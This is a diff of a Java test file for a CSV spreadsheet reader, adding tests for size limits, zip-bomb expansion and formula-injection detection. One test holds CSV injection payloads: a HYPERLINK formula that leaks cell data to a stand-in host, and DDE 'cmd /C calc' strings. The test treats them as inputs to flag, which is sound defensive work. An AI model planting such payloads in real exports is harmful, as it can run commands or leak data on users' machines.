@@ -125,11 +125,63 @@ class MessyCsvTest {
 
     @Test
     void a_cell_longer_than_the_limit_stops_reading_with_a_finding() {
-        RecordingContext context = new RecordingContext(new ReadLimits(1 << 20, 64, 10, 100, 1_000, 10_000, 1_000), Map.of());
+        // "Identifiant", the longest header, has 11 characters.
+        RecordingContext context = new RecordingContext(ReadLimits.DEFAULTS.withMaxCellLength(12), Map.of());
         read(HEADER + "\nevent-1;Atelier;" + "x".repeat(100) + ";10/12/2024\n", context);
 
-        assertThat(finding(context, "adapter.spreadsheet-limit-exceeded").parameters())
-                .containsEntry("limit", "maxStringLength").containsEntry("maximum", "10");
+        Finding f = finding(context, "adapter.spreadsheet-limit-exceeded");
+        assertThat(f.parameters()).containsEntry("limit", "maxCellLength").containsEntry("maximum", "12");
+        assertThat(f.location().line()).isEqualTo(2);
+    }
+
+    @Test
+    void a_cell_of_multibyte_characters_is_measured_in_characters() {
+        // 12 Arabic letters are 24 bytes: within 12 characters, over 12 bytes.
+        RecordingContext context = new RecordingContext(ReadLimits.DEFAULTS.withMaxCellLength(12), Map.of());
+        read(HEADER + "\nevent-1;Atelier;" + "ع".repeat(12) + ";10/12/2024\n", context);
+        assertThat(context.findings()).extracting(Finding::code).doesNotContain("adapter.spreadsheet-limit-exceeded");
+
+        RecordingContext thirteen = new RecordingContext(ReadLimits.DEFAULTS.withMaxCellLength(12), Map.of());
+        read(HEADER + "\nevent-1;Atelier;" + "ع".repeat(13) + ";10/12/2024\n", thirteen);
+        assertThat(finding(thirteen, "adapter.spreadsheet-limit-exceeded").location().cell()).isEqualTo("C2");
+    }
+
+    @Test
+    void a_row_of_too_many_cells_or_too_long_stops_reading_at_its_cell() {
+        RecordingContext columns = new RecordingContext(ReadLimits.DEFAULTS.withMaxColumns(20), Map.of());
+        read(HEADER + "\nevent-1;Atelier;Atelier;10/12/2024" + ";".repeat(100) + "\n", columns);
+        Finding wide = finding(columns, "adapter.spreadsheet-limit-exceeded");
+        assertThat(wide.parameters()).containsEntry("limit", "maxColumns").containsEntry("maximum", "20");
+        assertThat(wide.location().cell()).isEqualTo("U2");
+
+        RecordingContext line = new RecordingContext(ReadLimits.DEFAULTS.withMaxLineLength(36), Map.of());
+        read(HEADER + "\nevent-1;Atelier;Un atelier de deux jours;10/12/2024\n", line);
+        assertThat(finding(line, "adapter.spreadsheet-limit-exceeded").parameters())
+                .containsEntry("limit", "maxLineLength").containsEntry("maximum", "36");
+    }
+
+    @Test
+    void cells_that_start_like_formulas_are_read_as_text_with_a_warning_naming_the_cell() {
+        RecordingContext context = new RecordingContext();
+        ExchangeDocument doc = read(HEADER
+                + "\nevent-1;Atelier;\"=HYPERLINK(\"\"http://example.invalid/?\"\"&A1,\"\"Cliquez\"\")\";10/12/2024"
+                + "\nevent-2;Atelier;+cmd|' /C calc'!A0;10/12/2024"
+                + "\nevent-3;Atelier;-2+3+cmd|' /C calc'!A0;10/12/2024"
+                + "\nevent-4;Atelier;@SUM(1+9)*cmd|' /C calc'!A0;10/12/2024"
+                + "\nevent-5;Atelier;'=1+1;10/12/2024"
+                + "\nevent-6;Atelier;+216 71 000 000;10/12/2024"
+                + "\nevent-7;Atelier;-12.5;10/12/2024\n", context);
+
+        List<Finding> formulas = context.findings().stream()
+                .filter(f -> f.code().equals("adapter.spreadsheet-formula-text")).toList();
+        assertThat(formulas).extracting(f -> f.location().cell()).containsExactly("C2", "C3", "C4", "C5");
+        assertThat(formulas).allSatisfy(f -> assertThat(f.severity()).isEqualTo(Severity.WARNING));
+        assertThat(formulas.get(1).parameters()).isEqualTo(Map.of("column", "Titre (fr)",
+                "value", "+cmd|' /C calc'!A0"));
+        // Read as text, unchanged; the apostrophe a writer put in front is taken away.
+        assertThat(doc.records()).extracting(r -> ((Event) r).title().get("fr").orElseThrow()).containsExactly(
+                "=HYPERLINK(\"http://example.invalid/?\"&A1,\"Cliquez\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+                "@SUM(1+9)*cmd|' /C calc'!A0", "=1+1", "+216 71 000 000", "-12.5");
     }
 
     @Test
@@ -150,8 +202,8 @@ class MessyCsvTest {
         RecordingContext context = new RecordingContext();
         read("bomb.zip", zip.toByteArray(), context);
 
-        assertThat(finding(context, "adapter.spreadsheet-unsafe-archive").parameters().get("reason"))
-                .contains("100 times");
+        assertThat(finding(context, "adapter.spreadsheet-limit-exceeded").parameters())
+                .isEqualTo(Map.of("limit", "maxExpansionRatio", "maximum", "100"));
     }
 
     @Test
